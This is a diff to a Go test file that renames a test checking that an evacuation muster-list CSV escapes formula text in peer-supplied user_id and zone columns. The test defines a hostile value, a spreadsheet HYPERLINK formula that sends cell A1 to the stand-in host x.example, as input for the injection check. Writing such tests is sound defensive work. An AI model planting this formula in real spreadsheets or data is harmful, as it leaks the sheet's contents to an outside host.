@@ -9,7 +9,7 @@ import (
 	"github.com/facegate/facegate/mqtt"
 )
 
-// TestRtIntegMusterCSVGuardsEveryPeerTextCell: the muster list is the
+// TestMusterCSVGuardsEveryPeerTextCell: the muster list is the
 // sheet marshals open in a spreadsheet during an evacuation. Its user_id and
 // zone columns come from peers' events on the site topic, which
 // mqtt.ParseSiteEvent accepts with any printable text (user_id: no control
@@ -17,7 +17,7 @@ import (
 // "peers apply zone_to as is"). Only the name column goes through
 // csvcell.Safe, so a formula in user_id or zone_to reaches the sheet as a
 // formula.
-func TestRtIntegMusterCSVGuardsEveryPeerTextCell(t *testing.T) {
+func TestMusterCSVGuardsEveryPeerTextCell(t *testing.T) {
 	const hostileUser = `=HYPERLINK("http://x.example/?"&A1,"w-17")`
 	const hostileZone = `=1+1`
 	// The wire accepts both (a peer's, or any broker client's, granted event).
